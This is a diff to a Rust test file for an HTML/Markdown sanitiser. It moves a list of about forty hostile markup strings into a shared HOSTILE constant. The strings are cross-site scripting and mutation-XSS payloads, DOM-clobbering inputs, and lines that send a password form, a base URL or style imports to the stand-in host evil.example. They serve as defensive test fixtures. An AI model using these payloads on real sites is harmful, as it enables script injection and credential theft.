@@ -97,53 +97,55 @@ fn links_that_run_something_lose_their_address() {
     assert_eq!(kept, ["https://example.org/a?b=c", "https://example.org", "mailto:a@example.org"], "{shown}");
 }
 
+/// Markup that is nested wrongly, foreign, active, or about the page around it.
+const HOSTILE: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!-- --!><img src=x onerror=alert(1)>",
+    "<![CDATA[><img src=x onerror=alert(1)>]]>",
+    "<?xml ><img src=x onerror=alert(1)> ?>",
+    "<textarea></textarea><img src=x onerror=alert(1)>",
+    "<title></title><img src=x onerror=alert(1)>",
+    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
+    "<plaintext><img src=x onerror=alert(1)>",
+    "<select><style></select><img src=x onerror=alert(1)></style>",
+    "<form action=//evil.example><input name=password><button formaction=//evil.example>x</button></form>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<object data=x></object><embed src=x><applet code=x>",
+    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
+    "<p style=\"position:fixed;inset:0\">x</p>",
+    "<style>@import url(//evil.example/x.css);*{font-size:9999px;background:url(javascript:1)}</style>",
+    "<p style=\"width:expression(alert(1))\">x</p>",
+    "<font size=9999>x</font>",
+    "<a id=body name=attributes href=https://example.org class=button target=_top ping=//evil.example onclick=alert(1)>x</a>",
+    "<img name=getElementById id=forms><input id=attributes>",
+    "<p id=main onmouseover=alert(1) tabindex=1 autofocus onfocus=alert(1)>x",
+    "<details open ontoggle=alert(1)>x",
+    "<table background=javascript:alert(1)><td background=x>x",
+    "<a href=\"https://example.org\" title='\"><img src=x onerror=alert(1)>'>x</a>",
+    "[x](https://example.org '\"><img src=x onerror=alert(1)>')",
+    "[x](https://example.org \"onmouseover=alert(1) x=\")",
+    "`</code><script>alert(1)</script>`",
+    "```\"><img src=x onerror=alert(1)>\nx\n```",
+    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
+];
+
 /// T4, T5, T6, T7: tags that are nested wrongly, foreign, active, that restyle the page or take the names of its parts leave
 /// nothing but harmless elements, with no attribute but the address of a link and a title that is text.
 #[test]
 fn only_harmless_elements_remain_of_any_markup() {
-    let hostile = [
-        "<script>alert(1)</script>",
-        "<scr<script>ipt>alert(1)</scr</script>ipt>",
-        "<svg><style><img src=x onerror=alert(1)></style></svg>",
-        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
-        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-        "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
-        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-        "<template><img src=x onerror=alert(1)></template>",
-        "<!--><img src=x onerror=alert(1)>-->",
-        "<!-- --!><img src=x onerror=alert(1)>",
-        "<![CDATA[><img src=x onerror=alert(1)>]]>",
-        "<?xml ><img src=x onerror=alert(1)> ?>",
-        "<textarea></textarea><img src=x onerror=alert(1)>",
-        "<title></title><img src=x onerror=alert(1)>",
-        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
-        "<plaintext><img src=x onerror=alert(1)>",
-        "<select><style></select><img src=x onerror=alert(1)></style>",
-        "<form action=//evil.example><input name=password><button formaction=//evil.example>x</button></form>",
-        "<base href=//evil.example/>",
-        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
-        "<link rel=stylesheet href=//evil.example/x.css>",
-        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-        "<object data=x></object><embed src=x><applet code=x>",
-        "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
-        "<p style=\"position:fixed;inset:0\">x</p>",
-        "<style>@import url(//evil.example/x.css);*{font-size:9999px;background:url(javascript:1)}</style>",
-        "<p style=\"width:expression(alert(1))\">x</p>",
-        "<font size=9999>x</font>",
-        "<a id=body name=attributes href=https://example.org class=button target=_top ping=//evil.example onclick=alert(1)>x</a>",
-        "<img name=getElementById id=forms><input id=attributes>",
-        "<p id=main onmouseover=alert(1) tabindex=1 autofocus onfocus=alert(1)>x",
-        "<details open ontoggle=alert(1)>x",
-        "<table background=javascript:alert(1)><td background=x>x",
-        "<a href=\"https://example.org\" title='\"><img src=x onerror=alert(1)>'>x</a>",
-        "[x](https://example.org '\"><img src=x onerror=alert(1)>')",
-        "[x](https://example.org \"onmouseover=alert(1) x=\")",
-        "`</code><script>alert(1)</script>`",
-        "```\"><img src=x onerror=alert(1)>\nx\n```",
-        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
-    ];
-    let mut nested: Vec<String> = hostile.iter().map(|text| (*text).to_owned()).collect();
-    for (one, other) in hostile.iter().zip(hostile.iter().skip(1)) {
+    let mut nested: Vec<String> = HOSTILE.iter().map(|text| (*text).to_owned()).collect();
+    for (one, other) in HOSTILE.iter().zip(HOSTILE.iter().skip(1)) {
         nested.push(format!("{one}{other}"));
         nested.push(format!("> - {one}\n\n{other}"));
     }
